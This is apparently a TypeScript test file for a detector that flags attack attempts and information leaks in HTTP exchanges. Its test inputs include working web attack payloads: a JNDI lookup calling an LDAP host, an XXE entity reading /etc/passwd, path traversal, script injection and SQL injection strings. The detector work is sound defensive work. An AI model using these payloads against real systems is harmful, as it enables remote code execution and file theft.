/** What the text of an exchange shows, as a call carries it: attempts, and what the answer gives away. */
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { read } from '../read-exchange.ts';

const json = ['Content-Type', 'application/json'];

test('attempts are told wherever a value stands', () => {
  const of = (target: string, headers: string[] = [], requestBody = '') =>
    read({
      request: {
        method: requestBody === '' ? 'GET' : 'POST',
        target,
        headers: [...headers, 'Content-Length', `${Buffer.byteLength(requestBody)}`],
      },
      requestBody,
    }).signals;
  assert.deepEqual(of('/a?q=1%27+or+%271%27%3D%271'), ['sql-injection']);
  assert.deepEqual(of('/a', json, '{"a":{"b":["<script>alert(1)</script>"]}}'), ['cross-site-scripting']);
  assert.deepEqual(of('/a', ['Cookie', 'lang=../../../etc/passwd']), ['path-traversal']);
  assert.deepEqual(of('/a', ['User-Agent', `\${jndi:ldap://198.51.100.1/a}`]), ['lookup-injection']);
  assert.deepEqual(of('/a', ['X-Api-Version', `\${jndi:ldap://198.51.100.1/a}`]), ['lookup-injection']);
  assert.deepEqual(of('/files/..%2f..%2f..%2fetc%2fpasswd'), ['path-traversal']);
  assert.deepEqual(
    of('/a', ['Content-Type', 'text/xml'], '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'),
    ['external-entity', 'document-type'],
  );
  // Its API takes statements by design, and says so by its own fact.
  assert.deepEqual(of('/a', json, '{"sql":"select name, mobile from customer where id = 5"}'), []);
  assert.deepEqual(of('/a?q=shoes&page=2', ['User-Agent', 'Mozilla/5.0 (X11; Linux)', 'Accept', 'image/*;q=0.8']), []);
});

test('what an answer gives away', () => {
  const of = (status: number, type: string, responseBody: string, target = '/a') =>
    read({ request: { target }, response: { status, headers: ['Content-Type', type] }, responseBody }).signals;
  const trace = 'java.lang.IllegalStateException: x\\n\\tat com.a.B.c(B.java:12)';
  assert.deepEqual(of(200, json[1]!, `{"code":-1,"message":"${trace}"}`), ['stack-trace']);
  assert.deepEqual(of(500, json[1]!, `{"whatever":"${trace}"}`), ['stack-trace']);
  assert.deepEqual(of(200, 'text/html', '<title>Index of /a</title>'), ['directory-listing']);
  assert.deepEqual(of(200, json[1]!, '{"openapi":"3.0.1","info":{"title":"x"},"paths":{}}'), ['api-description']);
  assert.deepEqual(of(200, json[1]!, '{"data":{"__schema":{"types":[{"name":"Query"}]}}}'), ['query-schema']);
  assert.deepEqual(of(200, json[1]!, '{"text":"root:x:0:0:root:/root:/bin/sh"}', '/a?f=../../etc/passwd'), [
    ...['path-traversal', 'system-file'],
  ]);
  assert.deepEqual(of(200, json[1]!, '{"code":-1,"message":"无权访问该客户"}'), ['access-denied']);
  assert.deepEqual(of(200, json[1]!, '{"error_info":"Access denied"}'), ['access-denied']);
  assert.deepEqual(of(200, json[1]!, '{"message":"客户不存在"}'), []);
  assert.deepEqual(of(200, json[1]!, `{"article":"${trace}"}`), []);
  assert.deepEqual(of(200, json[1]!, '{"code":0,"message":"操作成功，感谢您的使用，请稍后查看结果"}'), []);
});

test('a foreign page that is let in with credentials', () => {
  const of = (origin: string, allow: string, credentials = 'true') =>
    read({
      request: { host: 'www.brokerage.com.cn', headers: ['Origin', origin] },
      response: { headers: ['Access-Control-Allow-Origin', allow, 'Access-Control-Allow-Credentials', credentials] },
    }).foreignOrigin;
  assert.match(of('https://evil.example', 'https://evil.example'), /^[0-9a-f]{16}$/);
  assert.match(of('null', 'null'), /^[0-9a-f]{16}$/);
  assert.equal(of('https://m.brokerage.com.cn', 'https://m.brokerage.com.cn'), '');
  assert.equal(of('https://evil.example', '*'), '');
  assert.equal(of('https://evil.example', 'https://evil.example', 'false'), '');
});

test('the same request again has the same hash, and another has another', () => {
  const of = (body: string, target = '/order', method = 'POST') =>
    read({ request: { method, target, headers: [...json, 'Content-Length', `${body.length}`] }, requestBody: body })
      .requestHash;
  assert.match(of('{"n":1}'), /^[0-9a-f]{16}$/);
  assert.equal(of('{"n":1}'), of('{"n":1}'));
  assert.notEqual(of('{"n":1}'), of('{"n":2}'));
  assert.notEqual(of('{"n":1}'), of('{"n":1}', '/other'));
  assert.equal(of('', '/order', 'GET'), '');
  // Files that begin alike are no replay of one another: what is longer than what is kept has no hash.
  assert.match(of(`{"file":"${'a'.repeat(16_000)}"}`), /^[0-9a-f]{16}$/);
  assert.equal(of(`{"file":"${'a'.repeat(16_384)}"}`), '');
});
